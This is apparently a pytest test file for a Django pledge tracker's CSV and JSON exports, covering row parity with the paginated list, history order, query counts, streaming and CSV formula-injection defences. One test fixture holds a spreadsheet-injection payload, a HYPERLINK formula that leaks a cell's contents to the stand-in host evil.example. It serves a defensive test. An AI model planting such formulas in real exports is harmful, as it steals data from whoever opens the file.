"""Exports: exactly the rows the list shows, on every page; a pledge's full history."""

import csv
import datetime
import io
import json
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.urls import reverse

from tests.factories import evidence_on, make_pledge, make_statement, retract, update_on
from tests.helpers import body, csv_rows, queries_for
from tracker import services
from tracker.models import Speaker, Statement, Theme
from tracker.roles import ANALYSTS
from tracker.views.exports import HISTORY_COLUMNS, PLEDGE_COLUMNS, ROW_COUNT_HEADER, safe_cell
from tracker.vocabulary import Status

pytestmark = pytest.mark.django_db


@pytest.fixture
def many(analyst):
    """75 pledges, more than a page; a third of them in progress since February 2024."""
    statement = make_statement(sentences=75)
    pledges = []
    for number in range(1, 76):
        pledge = make_pledge(statement, number, kind="financial" if number % 2 else "event_or_activity")
        if number % 3 == 0:
            update_on(pledge, analyst, Status.IN_PROGRESS, effective_on=datetime.date(2024, 2, 1))
        pledges.append(pledge)
    return pledges


def all_listed(manager_client, params: dict) -> list[int]:
    """Every pk the list shows, page after page."""
    pks, page = [], 1
    while True:
        response = manager_client.get(reverse("pledge_list"), {**params, "page": page})
        pks += [pledge.pk for pledge in response.context["page"].object_list]
        if not response.context["page"].has_next():
            return pks
        page += 1


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"kind": "financial", "sort": "-status"},
        {"as_of": "2024-01-31", "status": ["not_assessed"]},
        {"status": ["in_progress"], "q": "thing"},
    ],
)
def test_the_csv_has_exactly_the_rows_of_the_list_on_every_page(manager_client, many, params):
    rows = csv_rows(manager_client.get(reverse("export_pledges", args=["csv"]), params))
    assert [int(row["id"]) for row in rows] == all_listed(manager_client, params)
    assert len(rows) > 0


def test_the_json_has_the_same_rows_as_the_csv(manager_client, many):
    params = {"as_of": "2024-03-01", "status": ["in_progress"]}
    document = json.loads(body(manager_client.get(reverse("export_pledges", args=["json"]), params)))
    rows = csv_rows(manager_client.get(reverse("export_pledges", args=["csv"]), params))
    assert document["as_of"] == "2024-03-01"
    assert document["columns"] == PLEDGE_COLUMNS
    assert (
        [row["id"] for row in document["pledges"]]
        == [int(row["id"]) for row in rows]
        == all_listed(manager_client, params)
    )
    assert {row["status"] for row in document["pledges"]} == {"in_progress"}


@pytest.mark.parametrize("params", [{}, {"as_of": "2024-03-01", "status": ["in_progress"]}])
def test_each_export_says_how_many_rows_it_holds_and_a_cut_json_does_not_parse(manager_client, many, params):
    response = manager_client.get(reverse("export_pledges", args=["csv"]), params)
    assert (
        int(response[ROW_COUNT_HEADER]) == len(csv_rows(response)) == len(all_listed(manager_client, params))
    )
    response = manager_client.get(reverse("export_pledges", args=["json"]), params)
    text = body(response)
    document = json.loads(text)
    assert int(response[ROW_COUNT_HEADER]) == document["count"] == len(document["pledges"])
    with pytest.raises(json.JSONDecodeError):
        json.loads(text[: len(text) // 2])


def test_the_export_shows_the_status_as_of_its_date(manager_client, many):
    before = list(
        csv.DictReader(
            io.StringIO(
                body(manager_client.get(reverse("export_pledges", args=["csv"]), {"as_of": "2024-01-31"}))
            )
        )
    )
    after = csv_rows(manager_client.get(reverse("export_pledges", args=["csv"])))
    assert {row["status"] for row in before} == {"not_assessed"}
    assert sum(row["status"] == "in_progress" for row in after) == 25
    assert {row["as_of"] for row in before} == {"2024-01-31"}


def test_the_columns_are_stable_and_documented(manager_client, many, seed):
    content = body(manager_client.get(reverse("export_pledges", args=["csv"]), {"q": "17 million"}))
    [row] = list(csv.DictReader(io.StringIO(content)))
    assert content.splitlines()[0] == ",".join(PLEDGE_COLUMNS)
    assert (row["amount"], row["currency"], row["amount_stage"], row["amount_approximate"]) == (
        "17000000.00",
        "USD",
        "allocated",
        "True",
    )
    readme = (Path(settings.BASE_DIR) / "README.md").read_text(encoding="utf-8")
    for column in PLEDGE_COLUMNS + HISTORY_COLUMNS:
        assert f"`{column}`" in readme, column


def test_exports_are_downloads_named_by_their_date(manager_client, many):
    response = manager_client.get(reverse("export_pledges", args=["json"]), {"as_of": "2024-02-01"})
    assert response["Content-Disposition"] == 'attachment; filename="pledges-as-of-2024-02-01.json"'
    assert response["Content-Type"] == "application/json"


def test_an_unknown_export_format_is_not_found(manager_client):
    assert manager_client.get(reverse("export_pledges", args=["xml"])).status_code == 404


def test_analysts_cannot_export(client_for, analyst, many):
    assert client_for(analyst).get(reverse("export_pledges", args=["csv"])).status_code == 403


def test_text_in_the_csv_is_kept_as_written(manager_client, analyst):
    pledge = make_pledge(make_statement(), 1, summary='Train "judges", in Malta, and, commas')
    [row] = csv_rows(manager_client.get(reverse("export_pledges", args=["csv"])))
    assert row["summary"] == pledge.summary


def test_the_history_of_a_pledge_has_every_change_in_order(manager_client, analyst):
    pledge = make_pledge(make_statement(), 1)
    evidence = evidence_on(pledge, analyst, title="Ministry report")
    first = update_on(pledge, analyst, Status.IN_PROGRESS, rationale="Begun.")
    update_on(
        pledge,
        analyst,
        Status.FULFILLED,
        effective_on=datetime.date(2024, 5, 1),
        rationale="Done.",
        evidence=[evidence],
    )
    retract(first, analyst, reason="Too early.")
    response = manager_client.get(reverse("pledge_history_csv", args=[pledge.pk]))
    rows = csv_rows(response)
    assert [(row["version"], row["change"]) for row in rows] == [
        ("2", "evidence"),
        ("3", "status update"),
        ("4", "status update"),
        ("5", "retraction"),
    ]
    assert rows[2]["cites"] == "https://example.org/report"
    assert (rows[1]["retracted"], rows[3]["text"]) == ("True", "Too early.")
    assert response["Content-Disposition"] == f'attachment; filename="pledge-{pledge.pk}-history.csv"'


def test_the_history_shows_where_the_statements_text_changed_among_its_entries(
    manager_client, analyst, administrator
):
    pledge = make_pledge(make_statement(), 1)
    update_on(pledge, analyst, Status.IN_PROGRESS, rationale="Begun.")
    statement = pledge.statement
    statement.text += " A sentence added later."
    services.save_statement(statement=statement, changed_by=administrator)
    evidence_on(pledge, analyst, title="Ministry report")

    rows = csv_rows(manager_client.get(reverse("pledge_history_csv", args=[pledge.pk])))

    assert [(row["version"], row["change"], row["by"]) for row in rows] == [
        ("2", "status update", analyst.username),
        ("", "statement text changed", administrator.username),
        ("3", "evidence", analyst.username),
    ]


def test_the_history_takes_the_same_number_of_queries_however_long_it_is(
    manager_client, analyst, django_assert_num_queries
):
    pledge = make_pledge(make_statement(), 1)
    update_on(pledge, analyst, Status.IN_PROGRESS, rationale="Begun.")
    url = reverse("pledge_history_csv", args=[pledge.pk])
    short = queries_for(manager_client, url)
    for n in range(5):
        evidence_on(pledge, analyst, url=f"https://example.org/{n}", title=f"Report {n}")
        update_on(pledge, analyst, Status.STALLED, rationale=f"Stalled {n}.")

    with django_assert_num_queries(short):
        body(manager_client.get(url))


def test_the_export_reads_the_pledges_a_chunk_at_a_time(manager_client, many, django_assert_max_num_queries):
    # Every chunk is one query for the pledges and one for their themes; a list of the
    # 75 would be 2 queries, a query per pledge would be 75 or more. One more counts the
    # rows for the file's header, and one finds the ids of the updates that decide.
    with django_assert_max_num_queries(10):
        body(manager_client.get(reverse("export_pledges", args=["csv"])))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
]


def test_every_cell_of_every_csv_is_safe_to_open_in_a_spreadsheet(manager_client, analyst, administrator):
    statement = make_statement()
    pledge = make_pledge(statement, 1, summary=FORMULAS[0], beneficiaries=FORMULAS[4])
    evidence = evidence_on(pledge, analyst, title=FORMULAS[1])
    update = update_on(pledge, analyst, Status.IN_PROGRESS, rationale=FORMULAS[2], evidence=[evidence])
    retract(update, analyst, reason=FORMULAS[3])
    exports = [
        manager_client.get(reverse("export_pledges", args=["csv"])),
        manager_client.get(reverse("pledge_history_csv", args=[pledge.pk])),
    ]

    cells = [cell for response in exports for row in csv_rows(response) for cell in row.values()]

    assert cells
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
    for formula in FORMULAS:
        assert "'" + formula in cells


def test_every_text_a_person_typed_is_made_safe_in_the_pledge_export(manager_client, django_user_model):
    """The export reads safe_cell() only for PLEDGE_TEXT_COLUMNS: every field a person
    types, on every record a row reads, is one of them."""
    statement = make_statement(entity_name="=Entity")
    Statement.objects.filter(pk=statement.pk).update(title="+Title", organ="-Organ")
    Speaker.objects.filter(pk=statement.speaker_id).update(name="@Speaker")
    pledge = make_pledge(
        statement,
        1,
        summary="=S",
        deadline_text="=D",
        currency="=A1",
        beneficiaries="\tB",
        amount=5,
        amount_stage="announced",
    )
    pledge.themes.add(Theme.objects.create(name="=Theme"))
    author = django_user_model.objects.create_user("-analyst")
    author.groups.add(Group.objects.get(name=ANALYSTS))
    update_on(pledge, author, Status.IN_PROGRESS, rationale="=R", evidence=[evidence_on(pledge, author)])

    rows = csv_rows(manager_client.get(reverse("export_pledges", args=["csv"])))

    started = {name: value for name, value in rows[0].items() if value and value[0] in "=+-@\t\r"}
    assert started == {}
    assert rows[0]["currency"] == "'=A1"
    assert {rows[0][name][:2] for name in ("entity", "statement_title", "organ", "speaker", "judged_by")} == {
        "'=",
        "'+",
        "'-",
        "'@",
    }


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_a_cell_that_would_start_a_formula_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Japan will", "1-2 March", 5, None, True])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_export_is_sent_in_blocks_not_a_line_at_a_time(manager_client, many, monkeypatch):
    from tracker.views import exports

    monkeypatch.setattr(exports, "BLOCK_CHARACTERS", 4096)
    response = manager_client.get(reverse("export_pledges", args=["csv"]))
    blocks = [bytes(block) for block in response.streaming_content]
    rows = csv_rows_of(b"".join(blocks))
    assert len(rows) == 75
    # 75 rows of about 400 characters: some blocks of 4 KiB, not 76 lines.
    assert 2 <= len(blocks) < 20
    assert all(len(block) >= 4096 for block in blocks[:-1])


def csv_rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
